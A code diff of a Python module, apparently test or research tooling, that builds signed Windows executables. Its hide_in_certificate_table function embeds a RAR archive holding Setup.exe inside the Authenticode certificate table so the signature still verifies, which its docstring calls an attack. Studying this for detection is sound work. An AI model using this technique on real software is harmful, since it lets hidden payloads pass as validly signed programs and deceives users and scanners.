@@ -15,7 +15,14 @@ import sys
 import tempfile
 from pathlib import Path
 
-from .signing import sign_with
+from .signing import osslsigncode_verifies, sign, sign_with
+
+
+def make_rar(archive, folder, *switches):
+    """Archives every file under folder (paths relative to it) into archive."""
+    subprocess.run(["rar", "a", "-r", "-idq", "-qo-", *switches, str(Path(archive).resolve()), "."], cwd=folder,
+                   check=True, capture_output=True)
+    return Path(archive)
 
 
 def make_package(setup, head, chain, key, out, padding_mb=0, archive=None):
@@ -33,9 +40,7 @@ def make_package(setup, head, chain, key, out, padding_mb=0, archive=None):
         if padding_mb:
             (content / "data.bin").write_bytes(os.urandom(padding_mb << 20))
         if archive is None:
-            made = work / "package.rar"
-            subprocess.run(["rar", "a", "-r", "-idq", "-m1", str(made), "."], cwd=content, check=True)
-            archive = made.read_bytes()
+            archive = make_rar(work / "package.rar", content, "-m1").read_bytes()
         joined = work / "joined.exe"
         joined.write_bytes(Path(head).read_bytes() + archive)
         out.unlink(missing_ok=True)
@@ -43,19 +48,20 @@ def make_package(setup, head, chain, key, out, padding_mb=0, archive=None):
     return out
 
 
-def hide_in_certificate_table(program, setup, chain, key, out):
-    """Writes to out the program, signed, with a RAR of setup (as Setup.exe)
-    inside its certificate table: the one WIN_CERTIFICATE's dwLength and the
-    security directory's size grow to cover the archive and its zero padding to
+def hide_in_certificate_table(program, signer, out):
+    """Writes to out the program, signed by signer, with a RAR of the program (as
+    Setup.exe) inside its certificate table: the one WIN_CERTIFICATE's dwLength and
+    the security directory's size grow to cover the archive and its zero padding to
     8 bytes. The Authenticode digest skips the table, so the signature still
-    verifies; UnRAR finds the archive as it finds one behind a self-extractor.
-    The PE checksum is left stale: Windows does not check it for a program."""
+    verifies (checked here: that is what makes the attack real); UnRAR finds the
+    archive as it finds one behind a self-extractor. The PE checksum is left stale:
+    Windows does not check it for a program."""
     with tempfile.TemporaryDirectory() as work:
         work = Path(work)
-        data = bytearray(sign_with(program, chain, key, work / "signed.exe").read_bytes())
-        (work / "Setup.exe").write_bytes(Path(setup).read_bytes())
-        subprocess.run(["rar", "a", "-idq", "-m1", "hidden.rar", "Setup.exe"], cwd=work, check=True)
-        archive = (work / "hidden.rar").read_bytes()
+        data = bytearray(sign(program, signer, work / "signed.exe").read_bytes())
+        (work / "hidden").mkdir()
+        (work / "hidden" / "Setup.exe").write_bytes(Path(program).read_bytes())
+        archive = make_rar(work / "hidden.rar", work / "hidden", "-m1").read_bytes()
     pe = struct.unpack_from("<I", data, 0x3C)[0]
     optional = pe + 24
     directory = optional + {0x10B: 96, 0x20B: 112}[struct.unpack_from("<H", data, optional)[0]] + 4 * 8
@@ -65,6 +71,7 @@ def hide_in_certificate_table(program, setup, chain, key, out):
     struct.pack_into("<I", data, directory + 4, len(data) - offset)
     struct.pack_into("<I", data, offset, len(data) - offset)
     Path(out).write_bytes(data)
+    assert osslsigncode_verifies(out, signer)
     return Path(out)
 
 if __name__ == "__main__":
